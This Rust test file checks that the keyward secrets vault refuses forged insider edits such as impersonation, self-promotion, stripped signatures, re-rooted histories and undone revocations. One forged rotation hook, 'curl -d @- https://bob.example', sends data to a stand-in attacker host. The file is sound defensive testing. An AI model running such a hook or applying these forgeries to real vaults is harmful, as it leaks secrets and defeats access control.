//! Changes forged by hand by someone who can decrypt and push — another member's name,
//! a role taken, signatures stripped, a history founded anew, a key chosen for someone
//! else, an admin's setting changed under an ordinary event — each refused by the rows
//! and the signatures, never by trusting what is stored.

use std::fs;

use keyward::audit::Action;
use predicates::prelude::*;
use predicates::str::contains;

use super::{bound_key, with_writer};
use crate::support::forge::{
    append_event, reroot, resign, resign_claiming, resign_hiding_settings, signed_edit,
};
use crate::support::{
    Sandbox, decrypt_file, edit_image, encrypt_image, gzipped, reencrypt_under_header,
};

#[test]
fn a_member_forging_another_members_change_is_refused_by_its_signature() {
    let (kw, bob_key, bob) = with_writer("bob");
    let alice = kw.my_recipient();
    let alice_key = hex::decode(bound_key(&kw, &alice).unwrap()).unwrap();
    let file = kw.env_file("dev");
    let image = decrypt_file(&file, &bob_key);
    let recipients = [alice.as_str(), bob.as_str()];

    // Bob, a current member, records a revocation under Alice's name and signs it with
    // his own key while claiming to be Alice.
    let forged = edit_image(&image, |c| {
        c.execute("UPDATE versions SET status = 3", []).unwrap();
        append_event(c, &alice, Action::Revoke, Some("K"), Some(1));
        resign_claiming(
            c,
            &bob_key,
            Some((alice.clone(), alice_key.clone().try_into().unwrap())),
        );
    });
    fs::write(&file, encrypt_image(&forged, &recipients)).unwrap();
    for args in [vec!["get", "K"], vec!["audit", "verify"]] {
        kw.cmd(&args)
            .assert()
            .code(6)
            .stderr(contains("does not check (forged or altered)"));
    }
    // The same change signed as himself: the event still names Alice.
    let forged = signed_edit(
        &image,
        "UPDATE versions SET status = 3",
        &alice,
        &bob_key,
        (Action::Revoke, Some("K"), Some(1), None),
    );
    fs::write(&file, encrypt_image(&forged, &recipients)).unwrap();
    let fresh = kw.path("fresh-state");
    kw.cmd(["get", "K"])
        .env("XDG_STATE_HOME", &fresh)
        .assert()
        .code(6)
        .stderr(contains("names another actor"));
    // And the rows changed under Alice's last signature, signed by nobody: refused too.
    let edited = edit_image(&image, |c| {
        c.execute("UPDATE versions SET status = 3", []).unwrap();
    });
    fs::write(&file, encrypt_image(&edited, &recipients)).unwrap();
    kw.cmd(["get", "K"])
        .env("XDG_STATE_HOME", kw.path("fresh-2"))
        .assert()
        .code(6)
        .stderr(contains("changed without a signed event"));
}

#[test]
fn a_writer_promoting_themselves_by_hand_is_refused_even_signed() {
    let (kw, dev_key, dev) = with_writer("dev");
    // The writer makes themselves admin in the rows, records an ordinary event of their
    // own and signs the result with their own key: a valid signature, by a member.
    let file = kw.env_file("dev");
    let image = decrypt_file(&file, &dev_key);
    let forged = edit_image(&image, |c| {
        c.execute(
            "UPDATE recipients SET role = 2 WHERE recipient = ?1",
            [&dev],
        )
        .unwrap();
        append_event(c, &dev, Action::Set, Some("K"), Some(1));
        resign(c, &dev_key);
    });
    fs::write(
        &file,
        encrypt_image(&forged, &[kw.my_recipient().as_str(), dev.as_str()]),
    )
    .unwrap();
    kw.cmd(["list"])
        .env("XDG_STATE_HOME", kw.path("fresh"))
        .assert()
        .code(6)
        .stderr(contains("may not change who can decrypt or write"));
}

#[test]
fn signatures_stripped_from_a_signed_history_are_refused_where_it_was_seen_signed() {
    let kw = Sandbox::with_vault();
    kw.generate("K");
    let root = kw.stdout(["trust", "root"]).trim().to_owned();
    // A member deletes every signature: the history reads as unsigned (as before
    // signed writes), the chain and the audit key as they were.
    kw.edit_env("dev", |c| {
        c.execute("DELETE FROM signatures", []).unwrap();
    });
    // This machine saw it signed: refused.
    kw.cmd(["get", "K"])
        .assert()
        .code(6)
        .stderr(contains("signatures stripped"));
    // A runner pinning the root: refused.
    kw.cmd(["get", "K"])
        .env("XDG_STATE_HOME", kw.path("runner"))
        .env("KEYWARD_TRUST_ROOT", &root)
        .assert()
        .code(6)
        .stderr(contains("has no signed history"));
    // A machine with nothing pinned: the file's format is always signed, so an empty
    // signature table is signatures stripped, not a vault from before signed writes.
    kw.cmd(["get", "K"])
        .env("XDG_STATE_HOME", kw.path("fresh"))
        .assert()
        .code(6)
        .stderr(contains(
            "which only signed writes give, and it holds no signature",
        ));
    kw.cmd(["audit", "verify"])
        .env("XDG_STATE_HOME", kw.path("fresh"))
        .assert()
        .code(6);
}

#[test]
fn a_member_founding_the_history_anew_is_refused_where_the_root_was_pinned() {
    let (kw, bob_key, bob) = with_writer("bob");
    let root = kw.stdout(["trust", "root"]).trim().to_owned();
    let alice = kw.my_recipient();
    let file = kw.env_file("dev");
    let image = decrypt_file(&file, &bob_key);
    // Bob, a writer, keeps the chain of events as it is (so this machine's pin of the
    // head still holds), deletes every signature and signs the whole history again as
    // its founder and only admin: a history that checks on its own.
    let forged = edit_image(&image, |c| reroot(c, &bob_key));
    fs::write(
        &file,
        encrypt_image(&forged, &[alice.as_str(), bob.as_str()]),
    )
    .unwrap();
    // The machine that pinned Alice's root refuses it, naming both roots.
    kw.cmd(["get", "K"])
        .assert()
        .code(6)
        .stderr(contains("pinned here").and(contains(&root)));
    // A runner told the root refuses it too.
    kw.cmd(["get", "K"])
        .env("XDG_STATE_HOME", kw.path("runner"))
        .env("KEYWARD_TRUST_ROOT", &root)
        .assert()
        .code(6);
    // A machine with nothing pinned can only trust it on first use — and says which
    // root it trusted, which is not Alice's.
    let other = kw
        .cmd(["get", "K"])
        .env("XDG_STATE_HOME", kw.path("fresh"))
        .output()
        .unwrap();
    assert!(other.status.success());
    let err = String::from_utf8_lossy(&other.stderr);
    assert!(err.contains("trust root") && !err.contains(&root), "{err}");
}

#[test]
fn an_admin_binding_someone_elses_recipient_to_a_key_of_their_own_is_refused() {
    let kw = Sandbox::with_vault();
    kw.generate("K");
    // Bob is granted by his bare recipient: unbound until his first signed write.
    let bob_key = kw.write_identity("bob.key");
    let bob = kw.recipient_of(&bob_key);
    kw.cmd(["access", "grant", &bob]).assert().success();
    assert_eq!(bound_key(&kw, &bob), None);
    let alice = kw.my_recipient();
    let alice_key = kw.identity.clone().unwrap();
    // Alice, an admin, binds Bob's recipient to a signing key she holds (her second
    // identity's) — an access change she may sign — and then writes as "Bob" with it.
    let spare = kw.write_identity("alice-spare.key");
    let spare_pub = {
        let id: age::x25519::Identity = Sandbox::secret_key_of(&spare).parse().unwrap();
        let secret = keyward::signing::x25519_secret(&id).unwrap();
        keyward::signing::derive_from_x25519(&secret)
            .verifying_key()
            .to_bytes()
    };
    let file = kw.env_file("dev");
    let image = decrypt_file(&file, &alice_key);
    let forged = edit_image(&image, |c| {
        c.execute(
            "UPDATE recipients SET signing_key = ?1 WHERE recipient = ?2",
            rusqlite::params![&spare_pub[..], bob],
        )
        .unwrap();
        resign(c, &alice_key);
        c.execute("UPDATE versions SET status = 3", []).unwrap();
        append_event(c, &bob, Action::Revoke, Some("K"), Some(1));
        resign_claiming(c, &spare, Some((bob.clone(), spare_pub)));
    });
    fs::write(
        &file,
        encrypt_image(&forged, &[alice.as_str(), bob.as_str()]),
    )
    .unwrap();
    for state in ["fresh-1", "fresh-2"] {
        kw.cmd(["audit", "verify"])
            .env("XDG_STATE_HOME", kw.path(state))
            .assert()
            .code(6)
            .stderr(contains("without a proof"));
    }
}

#[test]
fn a_writer_changing_a_hook_the_verifier_key_or_a_label_under_another_event_is_refused() {
    let (kw, bob_key, bob) = with_writer("bob");
    kw.set("IMPORTED", "an-imported-value-0123456789");
    kw.cmd(["hook", "set", "IMPORTED", "--", "echo rolled"])
        .assert()
        .success();
    let alice = kw.my_recipient();
    let file = kw.env_file("dev");
    let image = decrypt_file(&file, &bob_key);
    let recipients = [alice.as_str(), bob.as_str()];
    // Bob, a writer, records an ordinary `set` — and with it, a rotation hook of his
    // choosing (or another verifier key), signed as himself, as his role may not.
    for forge in [
        "UPDATE hooks SET command = 'curl -d @- https://bob.example'",
        "INSERT INTO verifier_key(id, seed, created) VALUES (1, zeroblob(32), 0)",
        // The admin relabelled as someone else: `access revoke Alice` would then
        // remove the wrong person.
        "UPDATE recipients SET label = 'Bob' WHERE role = 2",
        // A removed member's kept label (format 5) given to someone else: `audit
        // --actor Alice` would then find another person's events.
        "INSERT INTO former_labels(recipient, label) VALUES ('age1someone', 'Alice')",
    ] {
        let forged = signed_edit(
            &image,
            forge,
            &bob,
            &bob_key,
            (Action::Set, Some("IMPORTED"), Some(1), None),
        );
        fs::write(&file, encrypt_image(&forged, &recipients)).unwrap();
        kw.cmd(["audit", "verify"])
            .env("XDG_STATE_HOME", kw.path("fresh"))
            .assert()
            .code(6)
            .stderr(contains("may not change rotation hooks, the verifier key"));
    }
    // Signed as if the settings were as before: the rows say otherwise.
    let forged = edit_image(&image, |c| {
        c.execute(
            "UPDATE hooks SET command = 'curl -d @- https://bob.example'",
            [],
        )
        .unwrap();
        append_event(c, &bob, Action::Set, Some("IMPORTED"), Some(1));
        resign_hiding_settings(c, &bob_key);
    });
    fs::write(&file, encrypt_image(&forged, &recipients)).unwrap();
    kw.cmd(["audit", "verify"])
        .env("XDG_STATE_HOME", kw.path("fresh-1"))
        .assert()
        .code(6)
        .stderr(contains("changed without a signed event"));
    // The same edit as the admin Alice is hers to make.
    let alice_key = kw.identity.clone().unwrap();
    let forged = edit_image(&image, |c| {
        c.execute("UPDATE hooks SET command = 'echo again'", [])
            .unwrap();
        append_event(c, &alice, Action::Hook, Some("IMPORTED"), None);
        resign(c, &alice_key);
    });
    fs::write(&file, encrypt_image(&forged, &recipients)).unwrap();
    kw.cmd(["audit", "verify"])
        .env("XDG_STATE_HOME", kw.path("fresh-2"))
        .assert()
        .success();
}

#[test]
fn a_merge_takes_a_side_as_verified_only_when_its_bytes_are_a_file_verified_here() {
    // DESIGN §7 round 3: the merge does not verify again the OURS (or BASE) this machine
    // verified or wrote, known by its seal. Bob, a writer, holds the file key of Alice's last
    // write: he rewrites its payload under the very same header and nonce, making
    // himself admin. That OURS carries Alice's header and head, yet is verified from its
    // rows and refused.
    let (kw, bob_key, bob) = with_writer("bob");
    let file = kw.env_file("dev");
    let base = fs::read(&file).unwrap();
    // THEIRS: Alice on another machine adds a key to BASE.
    fs::write(&file, &base).unwrap();
    kw.cmd(["generate", "T"])
        .env("XDG_STATE_HOME", kw.path("laptop"))
        .assert()
        .success();
    let theirs = fs::read(&file).unwrap();
    // OURS: here, Alice rotates K (this machine writes it, and so seals it).
    fs::write(&file, &base).unwrap();
    kw.cmd(["rotate", "K"]).assert().success();
    let ours = fs::read(&file).unwrap();
    let promoted = edit_image(&decrypt_file(&file, &bob_key), |c| {
        c.execute(
            "UPDATE recipients SET role = 2 WHERE recipient = ?1",
            [&bob],
        )
        .unwrap();
    });
    let forged = reencrypt_under_header(&ours, &bob_key, &gzipped(&promoted), true);
    assert_eq!(forged[..200], ours[..200], "the same header");
    let dir = kw.path("sides");
    fs::create_dir_all(&dir).unwrap();
    let put = |name: &str, bytes: &[u8]| {
        let p = dir.join(name);
        fs::write(&p, bytes).unwrap();
        p.to_str().unwrap().to_owned()
    };
    let (b, t) = (put("base", &base), put("theirs", &theirs));
    let o = put("forged", &forged);
    kw.cmd(["git", "merge", &b, &o, &t, "vault/envs/dev.db.age"])
        .assert()
        .code(6)
        .stderr(contains("OURS's signed history does not verify"));
    assert_eq!(fs::read(&o).unwrap(), forged, "OURS untouched");
    // BASE, verified here before OURS was written, is not verified again either: the
    // same rewrite of BASE under its header is refused the same way.
    let promoted = edit_image(&decrypt_file(std::path::Path::new(&b), &bob_key), |c| {
        c.execute(
            "UPDATE recipients SET role = 2 WHERE recipient = ?1",
            [&bob],
        )
        .unwrap();
    });
    let forged_base = reencrypt_under_header(&base, &bob_key, &gzipped(&promoted), true);
    assert_eq!(forged_base[..200], base[..200], "the same header");
    let fb = put("forged-base", &forged_base);
    let o = put("ours", &ours);
    kw.cmd(["git", "merge", &fb, &o, &t, "vault/envs/dev.db.age"])
        .assert()
        .code(6)
        .stderr(contains("BASE's signed history does not verify"));
    assert_eq!(fs::read(&o).unwrap(), ours, "OURS untouched");
    // The very file written here merges, and the result verifies from its rows on a
    // machine that never saw it.
    let o = put("ours", &ours);
    kw.cmd(["git", "merge", &b, &o, &t, "vault/envs/dev.db.age"])
        .assert()
        .success()
        .stderr(contains("merged `dev` by meaning"));
    fs::write(&file, fs::read(&o).unwrap()).unwrap();
    let listed = kw
        .cmd(["list"])
        .env("XDG_STATE_HOME", kw.path("fresh"))
        .assert()
        .success();
    let listed = String::from_utf8_lossy(&listed.get_output().stdout).into_owned();
    assert!(listed.contains('K') && listed.contains('T'), "{listed}");
    kw.cmd(["access", "list", "--json"])
        .env("XDG_STATE_HOME", kw.path("fresh"))
        .assert()
        .success()
        .stdout(contains("\"role\":\"write\"").or(contains("\"role\": \"write\"")));
}

#[test]
fn a_writer_founding_the_history_anew_on_a_branch_takes_nothing_through_the_merge() {
    let mut t = crate::support::team::Team::new(&["alice"], &[]);
    let bob_key = t.kw.write_identity("bob.key");
    let bob = t.kw.recipient_of(&bob_key);
    let alice = t.members[0].recipient.clone();
    t.out(0, &["generate", "-e", "prod", "DB"]);
    let card = super::card_of(&t.kw, &bob_key);
    t.out(
        0,
        &["access", "grant", "-e", "prod", &card, "--role", "write"],
    );
    t.sync(0, "keys");
    let root = t.out(0, &["trust", "root", "-e", "prod"]).trim().to_owned();
    // A branch of Alice's from her laptop, for later.
    let laptop = t.fresh_machine(0, "laptop");
    t.git(laptop, &["checkout", "-q", "-b", "ok"]);
    t.out(laptop, &["generate", "-e", "prod", "OK"]);
    t.git(laptop, &["commit", "-qam", "ok"]);
    t.git(laptop, &["push", "-q", "origin", "ok"]);
    // Bob, a writer, on a branch: the chain of events kept, every signature deleted,
    // the history signed again with him as its founder and only admin (Alice demoted
    // to writer): a history that checks on its own and extends main's events.
    t.git(0, &["checkout", "-q", "-b", "bob"]);
    let file = t.env_file(0, "prod");
    let forged = edit_image(&decrypt_file(&file, &bob_key), |c| reroot(c, &bob_key));
    fs::write(
        &file,
        encrypt_image(&forged, &[alice.as_str(), bob.as_str()]),
    )
    .unwrap();
    t.git(0, &["commit", "-qam", "reformat"]);
    t.git(0, &["push", "-q", "origin", "bob"]);
    let branch = t.git(0, &["rev-parse", "HEAD"]).trim().to_owned();
    t.git(0, &["checkout", "-q", "main"]);
    let refused = |said: &str| {
        said.contains("THEIRS signs the history it shares with BASE otherwise than BASE does")
            && said.contains("conflict")
    };
    // Main moves on, and Alice merges the branch: refused, her file left as it was.
    t.out(0, &["rotate", "-e", "prod", "DB"]);
    t.git(0, &["commit", "-qam", "rotate"]);
    let ours = fs::read(&file).unwrap();
    let merge = t.git_out(0, &["merge", "--no-edit", &branch]);
    let said = String::from_utf8_lossy(&merge.stdout).into_owned()
        + &String::from_utf8_lossy(&merge.stderr);
    assert!(!merge.status.success() && refused(&said), "{said}");
    t.git(0, &["merge", "--abort"]);
    assert_eq!(fs::read(&file).unwrap(), ours);
    let access = t.out(0, &["access", "list", "-e", "prod", "--json"]);
    let roles: serde_json::Value = serde_json::from_str(&access).unwrap();
    for r in roles.as_array().unwrap() {
        let want = if r["recipient"] == bob {
            "write"
        } else {
            "admin"
        };
        assert_eq!(r["role"], want, "{access}");
    }
    assert_eq!(t.out(0, &["trust", "root", "-e", "prod"]).trim(), root);
    // A runner with nothing pinned merging the same branch into main: refused too.
    t.git(0, &["push", "-q", "origin", "main"]);
    let runner = t.fresh_machine(0, "runner");
    t.git(runner, &["fetch", "-q", "origin", "bob"]);
    let merge = t.git_out(runner, &["merge", "--no-edit", "FETCH_HEAD"]);
    let said = String::from_utf8_lossy(&merge.stdout).into_owned()
        + &String::from_utf8_lossy(&merge.stderr);
    assert!(!merge.status.success() && refused(&said), "{said}");
    t.git(runner, &["merge", "--abort"]);
    // And CI's check of the branch names the commit.
    t.kw(runner, &["audit", "verify", "--git", "FETCH_HEAD"])
        .assert()
        .code(6)
        .stderr(contains("reformat").and(contains("another trust root than its parent")));
    // The merge driver holds the sides to `KEYWARD_TRUST_ROOT` as a read does: Alice's
    // own branch is refused under another root, and merged under hers.
    t.git(runner, &["fetch", "-q", "origin", "ok"]);
    let other = "ab".repeat(32);
    for (want, ok) in [(other.as_str(), false), (root.as_str(), true)] {
        let merge = t.git_out_with(
            runner,
            &["merge", "--no-edit", "FETCH_HEAD"],
            &[("KEYWARD_TRUST_ROOT", want)],
        );
        let said = String::from_utf8_lossy(&merge.stdout).into_owned()
            + &String::from_utf8_lossy(&merge.stderr);
        assert_eq!(merge.status.success(), ok, "{said}");
        if !ok {
            assert!(
                said.contains("BASE's signed history does not verify") && said.contains(&other),
                "{said}"
            );
            t.git(runner, &["merge", "--abort"]);
        }
    }
    t.kw(runner, &["get", "-e", "prod", "OK"])
        .env("KEYWARD_TRUST_ROOT", &root)
        .assert()
        .success();
}

#[test]
fn the_merge_driver_holds_every_side_to_the_root_pinned_here() {
    let (kw, bob_key, bob) = with_writer("bob");
    let alice = kw.my_recipient();
    let root = kw.stdout(["trust", "root"]).trim().to_owned();
    // Bob founds the history anew, then writes two branches of it with his own keyward
    // (a machine that trusts his history on first use): all three sides of a merge
    // agree with each other, under his root.
    let forged = edit_image(&decrypt_file(&kw.env_file("dev"), &bob_key), |c| {
        reroot(c, &bob_key)
    });
    let base = encrypt_image(&forged, &[alice.as_str(), bob.as_str()]);
    let branch = |name: &str| super::branch_as(&kw, &bob_key, &base, name, &["generate", name]);
    let (ours, theirs) = (branch("OURS_KEY"), branch("THEIRS_KEY"));
    let [b, o, t] = kw.merge_sides("sides", [&base, &ours, &theirs]);
    // Alice's machine pinned her root: the driver refuses, OURS left as given.
    kw.cmd(["git", "merge", &b, &o, &t, "vault/envs/dev.db.age"])
        .assert()
        .failure()
        .stderr(contains("pinned here").and(contains(&root)));
    assert_eq!(fs::read(&o).unwrap(), ours);
    // A machine with nothing pinned trusts the history on first use and merges.
    kw.cmd(["git", "merge", &b, &o, &t, "vault/envs/dev.db.age"])
        .env("XDG_STATE_HOME", kw.path("fresh"))
        .assert()
        .success();
}

/// A `write` member signs an ordinary change (`set D1`) whose rows also undo what an
/// admin did to another key: every machine that reads the file for the first time — a
/// teammate pinned before the revocation, a fresh runner pinning the trust root — has
/// only this file's events to hold it to, and they say the key was revoked.
#[test]
fn a_writer_undoing_a_revocation_or_a_rotation_under_another_event_is_refused() {
    let (kw, bob_key, bob) = with_writer("bob");
    kw.set("LEAKED", "a-leaked-value-0123456789abcdef");
    kw.set("ROTATED", "an-old-value-0123456789abcdef");
    let root = kw.stdout(["trust", "root"]).trim().to_owned();
    // A teammate who read `dev` before the revocation.
    kw.cmd(["list"])
        .env("XDG_STATE_HOME", kw.path("dan"))
        .assert()
        .success();
    kw.cmd(["revoke", "LEAKED", "--reason", "leaked", "--yes"])
        .assert()
        .success();
    kw.cmd(["rotate", "ROTATED"])
        .write_stdin("a-new-value-0123456789abcdef")
        .assert()
        .success();
    let alice = kw.my_recipient();
    let file = kw.env_file("dev");
    let image = decrypt_file(&file, &bob_key);
    let recipients = [alice.as_str(), bob.as_str()];
    for (undo, says) in [
        (
            "UPDATE versions SET status = 0, revoked_at = NULL, revoked_by = NULL, revoke_reason = NULL
             WHERE key_id = (SELECT id FROM keys WHERE name = 'LEAKED')",
            "`LEAKED` v1 was revoked at event",
        ),
        (
            "UPDATE versions SET status = 0, retire_at = NULL
             WHERE version = 1 AND key_id = (SELECT id FROM keys WHERE name = 'ROTATED')",
            "`ROTATED` v1 was moved out of service by a rotation at event",
        ),
    ] {
        let forged = signed_edit(&image, undo, &bob, &bob_key, (Action::Set, Some("D1"), Some(1), None));
        fs::write(&file, encrypt_image(&forged, &recipients)).unwrap();
        kw.cmd(["get", "LEAKED"])
            .env("XDG_STATE_HOME", kw.path("dan"))
            .assert()
            .code(6)
            .stderr(contains(says))
            .stdout("");
        kw.cmd(["run", "--", "true"])
            .env("XDG_STATE_HOME", kw.path("fresh"))
            .env("KEYWARD_TRUST_ROOT", &root)
            .assert()
            .code(6)
            .stderr(contains(says));
        kw.cmd(["audit", "verify"])
            .env("XDG_STATE_HOME", kw.path("fresh"))
            .assert()
            .code(6);
    }
    // Under an event that names the key but does nothing: a `resolve` with no merge
    // conflict, a `delete` that leaves the rows, a rename to a key that is not there.
    let unrevoke =
        "UPDATE versions SET status = 0, revoked_at = NULL, revoked_by = NULL, revoke_reason = NULL
             WHERE key_id = (SELECT id FROM keys WHERE name = 'LEAKED')";
    for event in [
        (Action::Resolve, Some("LEAKED"), None, None),
        (Action::Delete, Some("LEAKED"), None, None),
        (
            Action::Rename,
            Some("GHOST"),
            None,
            Some("renamed from LEAKED"),
        ),
    ] {
        let forged = signed_edit(&image, unrevoke, &bob, &bob_key, event);
        fs::write(&file, encrypt_image(&forged, &recipients)).unwrap();
        kw.cmd(["get", "LEAKED"])
            .env("XDG_STATE_HOME", kw.path("fresh"))
            .env("KEYWARD_TRUST_ROOT", &root)
            .assert()
            .code(6)
            .stderr(contains("`LEAKED` v1 was revoked at event"))
            .stdout("");
    }
    // The same ordinary change, rows left as its events say: accepted.
    let honest = signed_edit(
        &image,
        "UPDATE meta SET v = v WHERE 0",
        &bob,
        &bob_key,
        (Action::Set, Some("D1"), Some(1), None),
    );
    fs::write(&file, encrypt_image(&honest, &recipients)).unwrap();
    kw.cmd(["get", "ROTATED"])
        .env("XDG_STATE_HOME", kw.path("dan"))
        .assert()
        .success()
        .stdout("a-new-value-0123456789abcdef\n");
}

/// A `write` member revokes a key and records an admin as the one who did, with a
/// reason of his own: `show` prints a revocation's author from the version's row, so
/// every reader holds that row to the event that revoked it.
#[test]
fn a_writer_recording_a_revocation_as_someone_elses_is_refused() {
    let (kw, bob_key, bob) = with_writer("bob");
    kw.set("OTHER", "another-value-0123456789abcdef");
    kw.cmd(["revoke", "K", "--reason", "leaked", "--yes"])
        .assert()
        .success();
    let alice = kw.my_recipient();
    let file = kw.env_file("dev");
    let image = decrypt_file(&file, &bob_key);
    let recipients = [alice.as_str(), bob.as_str()];
    let revoke_other = |by: &str, reason: &str, at: &str| {
        format!(
            "UPDATE versions SET status = 3, revoked_at = {at},
               revoked_by = (SELECT id FROM actors WHERE recipient = '{by}' LIMIT 1),
               revoke_reason = '{reason}'
             WHERE key_id = (SELECT id FROM keys WHERE name = 'OTHER')"
        )
    };
    // Alice's revocation of `K`: its time, her name, a reason of Bob's — or her reason.
    let alices =
        "(SELECT revoked_at FROM versions WHERE key_id = (SELECT id FROM keys WHERE name = 'K'))";
    for edit in [
        revoke_other(&alice, "per Alice: compromised", alices),
        revoke_other(&alice, "leaked", alices),
    ] {
        let forged = signed_edit(
            &image,
            &edit,
            &bob,
            &bob_key,
            (Action::Revoke, Some("OTHER"), None, None),
        );
        fs::write(&file, encrypt_image(&forged, &recipients)).unwrap();
        kw.cmd(["show", "OTHER"])
            .env("XDG_STATE_HOME", kw.path("fresh"))
            .assert()
            .code(6)
            .stderr(contains("`OTHER` v1 is recorded as revoked by"))
            .stderr(contains("no event of the history did that"));
    }
}
